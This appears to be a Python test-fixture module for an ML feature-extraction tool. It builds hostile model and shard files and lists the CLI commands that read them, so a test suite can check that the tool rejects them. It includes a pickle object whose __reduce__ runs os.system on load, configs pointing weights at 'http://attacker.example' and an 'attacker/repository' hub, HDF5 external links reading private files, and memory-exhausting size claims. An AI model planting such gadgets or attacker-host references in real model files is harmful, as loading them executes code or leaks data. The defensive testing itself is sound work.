"""Files from strangers: each variant makes one in a folder of sound ones, and names the commands that read it."""

from __future__ import annotations

import copy
import dataclasses
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from . import scenes

SECRET = "secret=4711"
SMALL = ("-b", "test_resnet", "--input-size", "3", "32", "32", "--device", "cpu")
Commands = list[tuple[str, ...]]
Variant = Callable[[Path, Path], Commands]  # the folder of sound files, and the private one → commands


def of_model(change: Callable[[dict[str, Any], Path], None]) -> Variant:
    """A variant: a model file whose backbone is described in another way, with digests that fit."""

    def make(work: Path, private: Path) -> Commands:
        from featurepipe import models
        from featurepipe.digests import sha256_json

        sound = models.load(work / "net.safetensors")
        backbone = copy.deepcopy(sound.backbone)
        backbone["source"]["random_seed"] = None
        change(backbone, private)
        backbone["fingerprint"] = sha256_json(backbone["spec"])
        models.save(work / "hostile.safetensors", dataclasses.replace(sound, backbone=backbone))
        given = "hostile.safetensors"
        return [
            *(("info", given), ("report", given, "-o", "out.html"), ("predict", given, "data", "-o", "out.csv")),
            *(("evaluate", given, "data"), ("extract", "data", "-s", "new", "-b", given)),
            ("finetune", given, "data", "-o", "out.safetensors", *scenes.TUNE),
        ]

    return make


def _names(name: str) -> Callable[[dict[str, Any], Path], None]:
    def change(backbone: dict[str, Any], private: Path) -> None:
        backbone["spec"]["architecture"] = backbone["source"]["name"] = backbone["name"] = name.format(private=private)

    return change


def _of_timm(backbone: dict[str, Any], private: Path) -> None:
    backbone["spec"]["architecture"], backbone["spec"]["arguments"] = "resnet18", {}
    backbone["source"] |= {"name": "resnet18.a1_in1k", "weights": None}


def _claims_crop(crop_pct: float) -> Callable[[dict[str, Any], Path], None]:
    def change(backbone: dict[str, Any], private: Path) -> None:
        backbone["source"]["random_seed"] = 0
        backbone["spec"]["transform"]["crop_pct"] = crop_pct

    return change


def _attends(backbone: dict[str, Any], private: Path) -> None:
    backbone["source"]["random_seed"] = 0
    backbone["spec"]["architecture"] = backbone["source"]["name"] = "vit_tiny_patch16_224"
    backbone["spec"]["arguments"] = {"patch_size": 1, "img_size": 512}
    backbone["spec"]["transform"]["input_size"] = [3, 512, 512]


def _argues(**arguments: Any) -> Callable[[dict[str, Any], Path], None]:
    def fill(value: Any, private: Path) -> Any:
        if isinstance(value, dict):
            return {key: fill(inner, private) for key, inner in value.items()}
        return value.format(private=private) if isinstance(value, str) else value

    def change(backbone: dict[str, Any], private: Path) -> None:
        backbone["source"]["name"] = backbone["name"] = "test_resnet.r160_in1k"
        backbone["spec"]["arguments"] = fill(arguments, private)

    return change


def _weighs(file: str) -> Callable[[dict[str, Any], Path], None]:
    def change(backbone: dict[str, Any], private: Path) -> None:
        backbone["source"]["weights"] = str(private / file)

    return change


def _giant(backbone: dict[str, Any], private: Path) -> None:
    backbone["source"]["random_seed"] = 0
    backbone["spec"]["architecture"] = backbone["source"]["name"] = "vit_giant_patch14_dinov2"


def of_shard(change: Callable[[Any, Path], None]) -> Variant:
    """A variant: a shard of format 1.0, which has no digest of the whole, with a part that lies elsewhere."""

    def make(work: Path, private: Path) -> Commands:
        import h5py

        for path in sorted(work.glob("store/*/shard-*.h5")):
            with h5py.File(path, "r+", libver=("v110", "v110")) as file:
                if not len(file["reject_reasons"]):
                    continue
                for name in [name for name in file.attrs if "digest" in name or "sha256" in name]:
                    del file.attrs[name]
                file.attrs["encoding-version"] = np.bytes_(b"1.0")
                change(file, private)
        model = "pixels.safetensors"
        return [
            *(
                ("info", "store"),
                ("verify", "store"),
                ("evaluate", model, "store"),
                ("export", "store", "-o", "out.csv"),
            ),
            *(("extract", "data", "-s", "store", *scenes.PIXELS), ("verify", "store", "--repair")),
        ]

    return make


def _external(file: Any, private: Path, name: str = "private.txt") -> None:
    del file["reject_reasons"]
    file.create_dataset("reject_reasons", (1,), "S64", external=[(str(private / name), 0, 64)])


def _linked(file: Any, private: Path) -> None:
    import h5py

    other = private.parent / "work" / "hostile.h5"
    with h5py.File(other, "w") as made:
        made["reasons"] = np.array([SECRET.encode()], "S64")
    del file["reject_reasons"]
    file["reject_reasons"] = h5py.ExternalLink(str(other), "reasons")


def _claims(shape: tuple[int, int], name: str) -> Callable[[Any, Path], None]:
    def change(file: Any, private: Path) -> None:
        del file[name]
        file.create_dataset(
            name, shape, "u1" if name == "digests" else "<f4", chunks=tuple(min(size, 32) for size in shape)
        )

    return change


class _Runs:
    """An object that runs a command when it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("echo ran",)


def of_weights(name: str) -> Variant:
    """A variant: weights that are code."""

    def make(work: Path, private: Path) -> Commands:
        import torch

        path = work / name
        if path.suffix == ".npz":
            np.savez(path, weight=np.array([_Runs()], object))
        elif "raw" in name:
            path.write_bytes(pickle.dumps(_Runs()))
        else:
            torch.save({"state_dict": {"conv.weight": torch.ones(1)}, "hook": _Runs()}, path)
        return [("extract", "data", "-s", "new", *SMALL, "--weights", name)]

    return make


def of_checkpoint(work: Path, private: Path) -> Commands:
    """A variant: a checkpoint that is code, where a tuning looks for its own."""
    import torch

    (work / "out.tuning").mkdir()
    torch.save({"header": "{}", "tensors": _Runs()}, work / "out.tuning" / "checkpoint.pt")
    return [("finetune", "net", "-o", "out.safetensors", "--tune", "all", *scenes.TUNE)]


VARIANTS: dict[str, Variant] = {
    "architecture of a hub": of_model(_names("hf-hub:attacker/repository")),
    "architecture of a hub, long": of_model(_names("hf_hub:attacker/repository@main")),
    "architecture of a folder": of_model(_names("local-dir:{private}")),
    "overlay with a url": of_model(_argues(pretrained_cfg_overlay={"url": "http://attacker.example/x.pth"})),
    "overlay with a file": of_model(_argues(pretrained_cfg_overlay={"file": "{private}/private.txt"})),
    "overlay with a hub": of_model(_argues(pretrained_cfg_overlay={"hf_hub_id": "attacker/repository"})),
    "configuration with a url": of_model(_argues(pretrained_cfg={"url": "http://attacker.example/x.pth"})),
    "checkpoint path": of_model(_argues(checkpoint_path="{private}/private.txt")),
    "cache folder": of_model(_argues(cache_dir="{private}/cache")),
    "weights elsewhere": of_model(_weighs("private.txt")),
    "weights in a pipe": of_model(_weighs("pipe")),
    "network of gigabytes": of_model(_giant),
    "activations of gigabytes": of_model(_attends),
    "weights of timm": of_model(_of_timm),
    "crop of nothing": of_model(_claims_crop(1e-9)),
    "crop of a giant": of_model(_claims_crop(1e9)),
    "enlarged to gigabytes": of_model(_claims_crop(1e-3)),
    "external storage": of_shard(_external),
    "external storage in a pipe": of_shard(lambda file, private: _external(file, private, "pipe")),
    "external link": of_shard(_linked),
    "terabytes of digests": of_shard(_claims((2**37, 32), "digests")),
    "gigabytes of embeddings": of_shard(_claims((16, 2**26), "embeddings")),
    "pickle.pth": of_weights("pickle.pth"),
    "pickle.bin": of_weights("pickle.bin"),
    "raw pickle.pth": of_weights("raw.pth"),
    "pickle.npz": of_weights("pickle.npz"),
    "pickle in safetensors": of_weights("raw.safetensors"),
    "pickle in a checkpoint": of_checkpoint,
    "private folder as weights": of_model(_weighs("")),
}
